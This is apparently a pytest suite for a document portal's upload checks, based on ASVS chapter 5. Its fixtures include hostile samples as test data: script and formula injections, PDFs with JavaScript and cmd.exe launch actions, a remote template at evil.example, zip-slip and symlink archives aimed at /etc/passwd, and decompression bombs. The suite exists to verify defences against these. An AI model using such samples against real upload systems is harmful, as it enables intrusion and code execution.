"""Files from outside: sixty that a portal meets, harmless and hostile. Source: ASVS 5.0.0 chapter 5."""

import io
import stat
import zipfile

import pytest
from PIL import Image

from portal.errors import RuleViolation
from portal.uploads import MAX_BYTES, MAX_NAME, clean_name, judge

WORD, SHEET = "wordprocessingml.document.main+xml", "spreadsheetml.sheet.main+xml"
EICAR = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
PDF = b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"


def picture(form: str, size=(8, 8), mode="RGB", **more) -> bytes:
    written = io.BytesIO()
    Image.new(mode, size, 1).save(written, form, **more)
    return written.getvalue()


def office(main: str = WORD, types: str = "", **parts: bytes) -> bytes:
    """An office file; a part's name is written with "__" for "/" and "_0_" for "."."""
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as archive:
        start = "application/vnd.openxmlformats-officedocument."
        archive.writestr(
            "[Content_Types].xml", f'{types}<Types><Override ContentType="{start}{main}"/></Types>'
        )
        for name, content in parts.items():
            archive.writestr(name.replace("__", "/").replace("_0_", "."), content)
    return written.getvalue()


def archive_of(*entries: tuple[zipfile.ZipInfo | str, bytes]) -> bytes:
    content = io.BytesIO(office())
    with zipfile.ZipFile(content, "a", zipfile.ZIP_DEFLATED) as archive:
        for entry, data in entries:
            archive.writestr(entry, data)
    return content.getvalue()


def link() -> zipfile.ZipInfo:
    info = zipfile.ZipInfo("word/link")
    info.external_attr = (stat.S_IFLNK | 0o777) << 16
    return info


TEMPLATE = b'<R Type="http://x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>'

TAKEN = {
    "a.pdf": PDF,
    "a.PDF": PDF,
    "a.docx": office(word__document_0_xml=b"<w/>"),
    "a.xlsx": office(SHEET, xl__workbook_0_xml=b"<w/>"),
    "a.png": picture("PNG"),
    "grey.png": picture("PNG", mode="L"),
    "clear.png": picture("PNG", mode="RGBA"),
    "palette.png": picture("PNG", mode="P"),
    "a.jpg": picture("JPEG"),
    "a.jpeg": picture("JPEG"),
    "a.csv": "name,country\nÉlan,FR\n".encode(),
    "mark.csv": b"\xef\xbb\xbfname\n",
    "a.txt": "مرحبا".encode(),
    "html.txt": b"<script>alert(1)</script>",  # text stays text: it is served as text/plain, as a download
    "formula.csv": b"=cmd|'/c calc'!A1\n",
    "polyglot.pdf": PDF.replace(b"1 0 obj", b"<script>alert(1)</script>1 0 obj"),
}
REFUSED = {
    "none": PDF,
    "a.svg": b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "a.html": b"<script>alert(1)</script>",
    "a.xhtml": b"<html/>",
    "a.mml": b"<math><maction actiontype='statusline'/></math>",
    "a.gif": b"GIF89a/*" + b"*/=1;alert(1)",
    "a.exe": b"MZ\x90\x00",
    "a.zip": archive_of(("x", b"x")),
    "a.docm": office(),
    "a.xlsm": office(SHEET),
    "a.doc": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
    "a.js": b"alert(1)",
    "a.php.": b"<?php",
    "a.eml": b"From: x",
    "empty.pdf": b"",
    "empty.txt": b"",
    "html.pdf": b"<html><script>alert(1)</script></html>",
    "late.pdf": b"<script>alert(1)</script>" + PDF,
    "cut.pdf": PDF[:20],
    "script.pdf": PDF.replace(b"/Catalog", b"/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>"),
    "launch.pdf": PDF.replace(b"/Catalog", b"/Catalog/AA<</S/Launch/F(cmd.exe)>>"),
    "carrier.pdf": PDF.replace(b"/Catalog", b"/Catalog/Names<</EmbeddedFile 3 0 R>>"),
    "form.pdf": PDF.replace(b"/Catalog", b"/Catalog/AcroForm<</XFA 3 0 R>>"),
    "rich.pdf": PDF.replace(b"/Catalog", b"/Catalog/Annots[<</Subtype/RichMedia>>]"),
    "svg.png": b"<svg onload='alert(1)'/>",
    "gif.png": b"GIF89a\x01\x00\x01\x00\x00\x00\x00;",
    "jpeg.png": picture("JPEG"),
    "png.jpg": picture("PNG"),
    "cut.png": picture("PNG", (64, 64))[:60],
    "broken.jpg": b"\xff\xd8\xff\xe0" + b"\x00" * 100,
    "bomb.png": picture("PNG", (7000, 7000), mode="1"),
    "pdf.docx": PDF,
    "sheet.docx": office(SHEET),
    "word.xlsx": office(WORD),
    "noarchive.docx": b"PK\x03\x04" + b"\x00" * 50,
    "html.docx": b"<html/>",
    "plainzip.docx": archive_of(("x", b"x")).replace(b"[Content_Types].xml", b"[Content_Typos].xml"),
    "macro.docx": office(word__vbaProject_0_bin=b"\x01"),
    "macrosheet.xlsx": office(SHEET, xl__macrosheets__sheet1_0_xml=b"<m/>"),
    "activex.docx": office(word__activeX__activeX1_0_xml=b"<m/>"),
    "program.docx": office(word__embeddings__a_0_exe=b"MZ"),
    "ole.docx": office(word__embeddings__ole_0_dat=b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"),
    "nested.docx": office(word__embeddings__inner_0_docx=office()),
    "gzip.docx": office(word__x_0_dat=b"\x1f\x8b\x08\x00"),
    "template.docx": office(word___rels__settings_0_xml_0_rels=TEMPLATE),
    "doctype.docx": office(word__document_0_xml=b'<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'),
    "typesdoctype.docx": office(types="<!DOCTYPE x>"),
    "slip.docx": archive_of(("../../etc/passwd", b"x")),
    "backslip.docx": archive_of(("..\\..\\x", b"x")),
    "absolute.docx": archive_of(("/etc/passwd", b"x")),
    "link.docx": archive_of((link(), b"/etc/passwd")),
    "ratio.docx": archive_of(("word/media/x", b"\x00" * 30_000_000)),
    "many.xlsx": archive_of(*((f"x{n}", b"") for n in range(2100))),
    "latin.csv": "Élan".encode("latin-1"),
    "utf16.txt": "text".encode("utf-16"),
    "nul.txt": b"a\x00b",
    "large.txt": b"a" * (MAX_BYTES + 1),
}


@pytest.mark.parametrize("name", TAKEN)
def test_files_of_the_allowed_kinds_are_taken(name):
    judged = judge(name, TAKEN[name])
    assert judged.content
    assert judged.name.lower() == name.lower()


@pytest.mark.parametrize("name", REFUSED)
def test_anything_else_is_refused_with_a_reason(name):
    with pytest.raises(RuleViolation) as refusal:
        judge(name, REFUSED[name])
    assert len(str(refusal.value)) > 20


def test_a_refusal_never_depends_on_the_virus_scanner():
    assert judge("eicar.txt", EICAR.encode()).media_type.startswith("text/plain")  # the scanner's task
    with pytest.raises(RuleViolation):
        judge("eicar.zip", archive_of(("eicar.com", EICAR.encode())))


def test_pictures_are_drawn_anew_without_what_they_carried():
    camera = Image.Exif()
    camera[0x010F] = "Maker of the camera"
    camera[0x0112] = 6  # lies on its side
    kept = judge("a.jpg", picture("JPEG", (20, 10), exif=camera) + b"<script>alert(1)</script>").content
    assert b"Maker" not in kept
    assert b"script" not in kept
    assert Image.open(io.BytesIO(kept)).size == (10, 20)


@pytest.mark.parametrize(
    ("given", "kept"),
    [
        ("../../etc/passwd.txt", "passwd.txt"),
        ("..\\..\\boot.csv", "boot.csv"),
        ("C:\\files\\letter.pdf", "letter.pdf"),
        ("a\r\nSet-Cookie: x.pdf", "aSet-Cookie x.pdf"),
        ("memo\u202efdp.txt", "memofdp.txt"),
        ("a\x00.pdf", "a.pdf"),
        ('"quoted".pdf', "quoted.pdf"),
        ("\ud800half.pdf", "half.pdf"),
        ("e\u0301tude.pdf", "étude.pdf"),
        ("التقرير.pdf", "التقرير.pdf"),
        (".pdf", "file.pdf"),
    ],
)
def test_names_lose_what_misleads(given, kept):
    assert clean_name(given) == kept


def test_long_names_keep_their_ending():
    assert len(clean_name("x" * 300 + ".docx")) <= MAX_NAME
    assert clean_name("x" * 300 + ".docx").endswith(".docx")
